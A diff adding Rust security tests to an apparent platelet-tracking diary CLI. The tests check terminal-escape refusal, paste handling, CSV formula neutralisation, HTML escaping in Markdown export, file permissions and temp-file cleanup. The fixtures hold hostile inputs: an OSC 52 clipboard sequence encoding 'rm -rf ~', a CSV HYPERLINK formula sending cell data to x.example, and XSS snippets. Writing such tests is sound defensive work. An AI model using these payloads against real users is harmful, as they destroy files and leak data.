@@ -612,3 +612,181 @@ fn item09_migration_copy_is_complete_or_absent() {
         assert_eq!(list.as_array().unwrap().len(), 9);
     }
 }
+
+// 10. Escapes and bidi overrides never reach the terminal raw: refused on input, made visible
+//     on output (a crafted diary's fields, the Saved line, list, remind, note --list).
+#[test]
+fn item10_terminal_escapes_are_refused_on_input_and_made_visible_on_output() {
+    let d = Diary::new();
+    let osc52 = "\u{1b}]52;c;cm0gLXJmIH4=\u{7}";
+    for args in [
+        vec!["log", "platelets", "45", "--lab", osc52],
+        vec!["log", "platelets", "45", "--note", "a\u{202E}b"],
+        vec!["note", "--for-visit", "evil\u{2066}x"],
+    ] {
+        let out = d.cmd().args(&args).output().unwrap();
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr_of(&out));
+        assert!(!stderr_of(&out).contains('\u{1b}'));
+    }
+    assert_eq!(d.content(), "<no file>");
+    // A diary written by something else (a crafted backup, a hand edit).
+    d.ok(&["log", "platelets", "45", "--lab", "clinic"]);
+    d.ok(&["note", "--for-visit", "question"]);
+    {
+        let c = rusqlite::Connection::open(&d.db).unwrap();
+        c.execute(
+            "UPDATE entries SET details = json_set(details, '$.lab', ?1), note = ?2",
+            ["x\u{202E}y", osc52],
+        )
+        .unwrap();
+        c.execute("UPDATE visit_questions SET text = ?1", [osc52])
+            .unwrap();
+    }
+    for args in [
+        vec!["list"],
+        vec!["note", "--list"],
+        vec!["status"],
+        vec!["remind"],
+        vec!["edit", "1", "--value", "50"],
+    ] {
+        let out = d.cmd().args(&args).output().unwrap();
+        let all = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            stderr_of(&out)
+        );
+        assert!(
+            !all.contains('\u{1b}') && !all.contains('\u{202E}'),
+            "{args:?}: {all:?}"
+        );
+    }
+    let list = d.ok(&["list"]);
+    assert!(list.contains("␛]52"), "{list}");
+    // Machine formats keep the raw value.
+    let json = d.json(&["list", "--format", "json"]);
+    assert_eq!(json[0]["note"], osc52);
+}
+
+// 11. Bracketed paste: a paste is text for the focused field only, never keys.
+#[test]
+fn item11_a_paste_is_text_for_the_focused_field_only() {
+    use itp_diary::app::config::Settings;
+    use itp_diary::domain::clock::Clock;
+    use itp_diary::present::i18n::{I18n, Lang};
+    use itp_diary::tui::theme::Theme;
+    use itp_diary::tui::{Action, App, Modal};
+    let mut app = App::new(
+        Store::open_in_memory().unwrap(),
+        Clock::Fixed(now()),
+        I18n::new(Lang::En),
+        Settings::default(),
+        Theme { color: false },
+    );
+    // Outside a form a pasted "t" (take dose) does nothing.
+    app.on_paste("t");
+    assert!(app.modal.is_none());
+    assert_eq!(app.store.count_entries(true).unwrap(), 0);
+    app.update(Action::New(itp_diary::domain::entry::Kind::Platelets));
+    app.on_paste("45\rw");
+    let Some(Modal::Form(f)) = &app.modal else {
+        panic!("the form stays open: the pasted Enter was not a key");
+    };
+    assert_eq!(f.fields[f.focus].value, "45w");
+    assert_eq!(app.store.count_entries(true).unwrap(), 0, "nothing saved");
+}
+
+// 12. CSV formula injection is neutralised in every CSV; JSON keeps the raw value.
+#[test]
+fn item12_csv_formulas_are_neutralised() {
+    let d = Diary::new();
+    let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
+    d.ok(&["log", "platelets", "45", "--note", evil]);
+    d.ok(&["log", "platelets", "46", "--lab", "@SUM(1+1)"]);
+    d.ok(&["log", "platelets", "47", "--note=-2+3"]);
+    for csv in [
+        d.ok(&["export", "--format", "csv"]),
+        d.ok(&["list", "--format", "csv"]),
+    ] {
+        let mut r = csv::Reader::from_reader(csv.as_bytes());
+        for row in r.records() {
+            for cell in row.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "live formula: {cell}"
+                );
+            }
+        }
+        assert!(csv.contains("'=HYPERLINK"), "{csv}");
+        assert!(csv.contains("'@SUM"));
+    }
+    let json = d.json(&["list", "--format", "json"]);
+    assert!(json.as_array().unwrap().iter().any(|e| e["note"] == evil));
+}
+
+// 13. Markdown export escapes raw HTML from notes and questions.
+#[test]
+fn item13_markdown_escapes_raw_html() {
+    let d = Diary::new();
+    d.ok(&[
+        "log",
+        "platelets",
+        "45",
+        "--note",
+        "<img src=x onerror=alert(1)>",
+    ]);
+    d.ok(&["note", "--for-visit", "<script>alert(2)</script> taper?"]);
+    let md = d.ok(&["export", "--format", "md"]);
+    assert!(!md.contains("<img") && !md.contains("<script"), "{md}");
+    assert!(md.contains("&lt;script&gt;"), "{md}");
+}
+
+// 14. config.toml is created 0600 in a 0700 folder, whatever the umask.
+#[test]
+fn item14_settings_file_is_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    let d = Diary::new();
+    let cfg = d.dir.path().join("conf").join("sub").join("config.toml");
+    let out = StdCommand::new("sh")
+        .arg("-c")
+        .arg("umask 000; exec \"$0\" --db \"$1\" --config \"$2\" config init")
+        .arg(assert_cmd::cargo::cargo_bin("itp-diary"))
+        .arg(&d.db)
+        .arg(&cfg)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr_of(&out));
+    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&cfg), 0o600);
+    assert_eq!(mode(cfg.parent().unwrap()), 0o700);
+}
+
+// 15. Temporary files: none left after a failed export; stale ones of dead processes swept.
+#[test]
+fn item15_temporary_files_are_cleaned_and_swept() {
+    let d = Diary::new();
+    d.ok(&["log", "platelets", "45"]);
+    let data = d.db.parent().unwrap().to_path_buf();
+    // Left by a killed process (pid 999999 does not run): swept at the next start. A file
+    // of a running process (ours) is kept.
+    let dead = data.join(".report.csv.itp-tmp-999999-abc123");
+    let old_style = data.join("diary.partial-999998");
+    let alive = data.join(format!(".x.itp-tmp-{}-zz", std::process::id()));
+    for p in [&dead, &old_style, &alive] {
+        std::fs::write(p, "health data").unwrap();
+    }
+    d.ok(&["list"]);
+    assert!(!dead.exists() && !old_style.exists());
+    assert!(alive.exists());
+    // A failed export (a folder as target) leaves nothing.
+    let folder = d.dir.path().join("out");
+    std::fs::create_dir(&folder).unwrap();
+    let out = d
+        .cmd()
+        .args(["export", "--format", "csv", "--force", "-o"])
+        .arg(&folder)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(files_in(&folder).len(), 0);
+    assert!(files_in(d.dir.path()).iter().all(|n| !n.contains("tmp")));
+}
